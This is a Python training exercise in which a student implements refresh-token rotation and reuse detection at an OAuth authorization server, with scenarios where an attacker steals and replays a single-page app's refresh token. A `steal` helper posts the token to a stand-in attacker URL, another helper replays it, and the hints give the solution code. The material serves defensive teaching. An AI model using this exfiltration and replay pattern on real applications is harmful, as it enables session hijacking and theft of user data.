"""Exercise: rotate refresh tokens and detect their reuse at the
authorization server (RFC 9700 4.14.2)."""

from playground import Exercise, Refused

exercise = Exercise(
    "Rotate refresh tokens, detect reuse",
    level="intermediate",
    spec="RFC 6749 6, 10.4; RFC 9700 4.14.2",
    summary=(
        "Photo Gallery is a single-page app: a public client, whose refresh "
        "token lives in the browser, where a script injected into its page "
        "(XSS) can read it and send it to Mallory. The authorization server "
        "cannot tell Mallory's refresh request from the app's. What it can "
        "do is rotate: issue a new refresh token with every refresh and "
        "retire the old one, so that a retired token coming back means two "
        "parties hold the same grant. Your function makes that decision "
        "for every refresh request the token endpoint receives."
    ),
)


@exercise.student
def refresh(token) -> None:
    """
    Decide what the token endpoint does with a refresh request (RFC 6749 6).
    The authorization server has already found the refresh token, checked
    that it was issued to the client presenting it (RFC 6749 10.4) and that
    it has not expired. `token` tells you the rest:

    - `token.rotated`: an earlier refresh already exchanged this token for
      a new one; `token.revoked`: it was revoked.
    - `token.rotate()`: issue a new refresh token with this response and
      retire this one (it is `rotated` from then on).
    - `token.revoke_grant()`: revoke every access and refresh token issued
      from this grant, the chain of rotations included.

    Return to let the refresh go on; raise `Refused("why")` to refuse it
    (the client gets 400 `invalid_grant`, RFC 6749 5.2).

    RFC 9700 4.14.2, refresh token rotation: "the authorization server
    issues a new refresh token with every access token refresh response.
    The previous refresh token is invalidated, but information about the
    relationship is retained by the authorization server. If a refresh
    token is compromised and subsequently used by both the attacker and the
    legitimate client, one of them will present an invalidated refresh
    token, which will inform the authorization server of the breach. The
    authorization server cannot determine which party submitted the invalid
    refresh token, but it will revoke the active refresh token."
    """
    if token.revoked:
        raise Refused("The refresh token has been revoked.")
    # TODO: rotate every refresh token; treat a retired one as a breach.


@exercise.setup
def install(run):
    """The token endpoint's refresh grant asks `refresh` about each refresh
    token presented to it."""
    run.use_refresh_token_rotation(refresh)


ONE_HOUR = 3600


def refresh_as_app(run, refresh_token):
    """The gallery's script refreshes (from Alice's browser)."""
    response = run.spa.refresh(refresh_token)
    return response, _json(response)


def refresh_as_mallory(run, refresh_token):
    """Mallory's server refreshes as the gallery: a public client, so the
    refresh token is all she needs."""
    response = run.attacker.token_request(
        {
            "grant_type": "refresh_token",
            "refresh_token": refresh_token,
            "client_id": "photo-gallery-spa",
        }
    )
    return response, _json(response)


def _json(response):
    try:
        body = response.json()
    except ValueError:
        return {}
    return body if isinstance(body, dict) else {}


def steal(run, refresh_token):
    """A script injected into the gallery's page posts its refresh token to
    Mallory's site."""
    run.browser.fetch(
        f"{run.attacker.url}/steal",
        method="POST",
        data={"refresh_token": refresh_token},
        mode="no-cors",
        origin=run.client_url,
    )


def app_refreshes(run, refresh_token, times):
    """The app refreshes `times` times, an hour apart (its access tokens last
    an hour); returns its refresh token at the end."""
    for _ in range(times):
        run.clock.advance(ONE_HOUR)
        response, body = refresh_as_app(run, refresh_token)
        if response.status_code != 200:
            break
        refresh_token = body.get("refresh_token", refresh_token)
    return refresh_token


@exercise.scenario(
    "Photo Gallery keeps Alice signed in all day",
    hints=(
        "Every refresh must come back with a new refresh token, and the new "
        "one must work next time.",
        "Call token.rotate() for a token that is neither rotated nor revoked.",
    ),
)
def honest_refreshes(run):
    """
    Alice signs in to Photo Gallery. Every hour its access token expires,
    and its script trades the refresh token for a new access token. A public
    client's refresh tokens must be sender-constrained or rotated (RFC 9700
    4.14.2): each answer carries a new refresh token, and the app keeps only
    the newest.
    """
    run.code_flow(run.spa, run.browser, "alice", "wonderland")
    refresh_token = run.spa.tokens.get("refresh_token", "")
    for hour in range(1, run.random.randint(3, 5) + 1):
        run.clock.advance(ONE_HOUR)
        response, body = refresh_as_app(run, refresh_token)
        new = body.get("refresh_token")
        run.check(
            f"hour {hour}: the refresh answers 200 with a new refresh token",
            response.status_code == 200 and bool(new) and new != refresh_token,
            str(body)[:200],
        )
        refresh_token = new or refresh_token
    photos = run.spa.call_api("/api/photos")
    run.check("the newest access token reads Alice's photos", photos.status_code == 200)


@exercise.scenario(
    "Mallory's stolen refresh token comes back after the app rotated it",
    attack=True,
    hints=(
        "When Mallory presents it, the stolen refresh token has already been "
        "exchanged by the app for a new one: it is `rotated`.",
        "A rotated token presented again means two parties hold this grant, "
        "and the server cannot tell which is the thief: refuse, and revoke "
        "the whole grant (token.revoke_grant()), the app's newest refresh "
        "token included.",
        "if token.rotated: token.revoke_grant(); raise Refused('refresh "
        "token reused: the grant is revoked')",
    ),
)
def reuse_after_rotation(run):
    """
    Alice signs in to Photo Gallery. A script injected into the gallery's
    page sends its current refresh token to Mallory. Before Mallory gets to
    use it, the app refreshes (once or more): the stolen token is now
    retired. Then Mallory presents it.
    """
    run.code_flow(run.spa, run.browser, "alice", "wonderland")
    stolen = run.spa.tokens.get("refresh_token", "")
    steal(run, stolen)
    apps = app_refreshes(run, stolen, run.random.randint(1, 3))
    run.clock.advance(run.random.randint(60, 1800))
    response, body = refresh_as_mallory(run, stolen)
    photos = run.attacker.call_api("/api/photos", body.get("access_token", ""))
    run.refused(
        "the token endpoint refuses Mallory's retired refresh token",
        response.status_code == 400 and photos.status_code != 200,
        attacker_gets="a fresh access token for Alice's photos, and a refresh "
        "token of her own",
    )
    run.check(
        "and revokes the grant: the app's newest refresh token is refused too "
        "(RFC 9700 4.14.2)",
        refresh_as_app(run, apps)[0].status_code == 400,
    )
    run.code_flow(run.spa, run.browser, "alice", "wonderland")
    run.clock.advance(ONE_HOUR)
    again, _ = refresh_as_app(run, run.spa.tokens.get("refresh_token", ""))
    run.check(
        "Alice signs in again, and her new grant refreshes (200)",
        again.status_code == 200,
    )


@exercise.scenario(
    "Mallory uses the stolen refresh token first",
    attack=True,
    hints=(
        "Mallory's refresh came first: it looked like the app's, and she got "
        "the new refresh token. The server learns of the theft only when the "
        "app presents the token she already used.",
        "At that moment refuse the app and revoke the whole grant: that is "
        "what cuts Mallory's new refresh token off (token.revoke_grant()).",
        "if token.rotated: token.revoke_grant(); raise Refused(...); "
        "if token.revoked: raise Refused(...); token.rotate()",
    ),
)
def thief_first(run):
    """
    Alice signs in to Photo Gallery; the injected script sends its refresh
    token to Mallory, who uses it at once: the server cannot tell her
    request from the app's, and answers with a new access token and a new
    refresh token. An hour later the app refreshes with the token it holds,
    which Mallory's refresh retired. Later still, Mallory refreshes again
    with the refresh token she was given.
    """
    run.code_flow(run.spa, run.browser, "alice", "wonderland")
    stolen = run.spa.tokens.get("refresh_token", "")
    steal(run, stolen)
    _, body = refresh_as_mallory(run, stolen)
    mallorys = body.get("refresh_token", stolen)
    run.clock.advance(ONE_HOUR)
    apps, _ = refresh_as_app(run, stolen)
    run.check(
        "the app's refresh with the token Mallory used is refused (400)",
        apps.status_code == 400,
    )
    run.clock.advance(run.random.randint(2, 6) * ONE_HOUR)
    response, body = refresh_as_mallory(run, mallorys)
    photos = run.attacker.call_api("/api/photos", body.get("access_token", ""))
    run.refused(
        "Mallory's own refresh token is refused once the reuse was seen",
        response.status_code == 400 and photos.status_code != 200,
        attacker_gets="new access tokens for Alice's photos for as long as "
        "her refresh token chain lasts",
    )
    run.code_flow(run.spa, run.browser, "alice", "wonderland")
    run.clock.advance(ONE_HOUR)
    again, _ = refresh_as_app(run, run.spa.tokens.get("refresh_token", ""))
    run.check(
        "Alice signs in again, and her new grant refreshes (200)",
        again.status_code == 200,
    )
